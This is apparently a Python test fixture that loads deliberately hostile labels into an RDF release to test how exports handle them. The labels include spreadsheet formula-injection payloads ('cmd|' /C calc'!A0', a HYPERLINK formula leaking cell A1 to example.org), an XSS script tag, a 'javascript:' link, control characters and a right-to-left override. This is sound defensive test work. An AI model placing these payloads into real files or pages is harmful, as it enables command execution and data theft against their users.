"""Labels that do harm where they are written down without care, as if institutes stated them."""

from pathlib import Path
from typing import Final

from pyoxigraph import BlankNode, DefaultGraph, Literal, NamedNode, Quad, RdfFormat, Store

from amocf.exchange.registry import ReleaseData
from amocf.terms import expand

BASE: Final = "https://example.org/hostile/"
FORMULAS: Final = (
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "Welding;=cmd|' /C calc'!A0;x",
    'Welding, by hand; "=1+1',
    "Welding;\t@SUM(A1)",
    "Welding;\n+1+1",
    "-5; =1+1",
    "-5;1+1",
)
LABELS: Final = (
    *FORMULAS,
    'Quotes "within", \'these\' and \\" at the end \\',
    "Line\nends\r\nand\x00 control\x1b characters\u2028 within",
    "<script>alert(1)</script> & <b>markup</b> [a](javascript:b)",
    "<b>",
    "Parts; of > a ; list > with\ttabs",
    "\x01\x02",
    "technical DRAWINGS and schematics",
    "Technical Drawings and Schematics",
    "x" * 40_000,
    "long word " * 4_000,
    "4.1",
    "\u202eright to left",
)


def hostile_release(dist: Path) -> ReleaseData:
    """Return the release as if an institute stated a KSA and an occupation of each label."""
    store = Store()
    store.bulk_load(path=str(dist / "amocf.nq"), format=RdfFormat.N_QUADS)
    institute = NamedNode(f"{BASE}institute")
    for number, label in enumerate(LABELS, 1):
        ksa, occupation = NamedNode(f"{BASE}k{number}"), NamedNode(f"{BASE}o{number}")
        for concept, kind in ((ksa, "InstituteKSA"), (occupation, "InstituteOccupation")):
            code = f"{kind[9:12].lower()}-hostile-{number}"
            _state(store, concept, "rdf:type", NamedNode(expand(f"amo:{kind}")))
            _state(store, concept, "dct:identifier", Literal(code))
            _state(store, concept, "skos:prefLabel", Literal(label, language="en"))
            _state(store, concept, "rdfs:label", Literal(label, language="en"))
            _state(store, concept, "dct:creator", institute)
        selection = BlankNode()
        _state(store, selection, "amo:selects", ksa)
        _state(store, selection, "amo:statedBy", institute)
        for code in ("4-1-2", "4-2-9")[: 1 + number % 2]:
            _state(store, selection, "amo:selectedUnder", NamedNode(expand(f"amocf:{code}")))
    _state(store, institute, "rdfs:label", Literal("=cmd|' /C calc'!A0 <i>", language="en"))
    return ReleaseData(store, "2025.1.0", {})


def _state(
    store: Store, subject: NamedNode | BlankNode, curie: str, value: NamedNode | Literal
) -> None:
    store.add(Quad(subject, NamedNode(expand(curie)), value, DefaultGraph()))
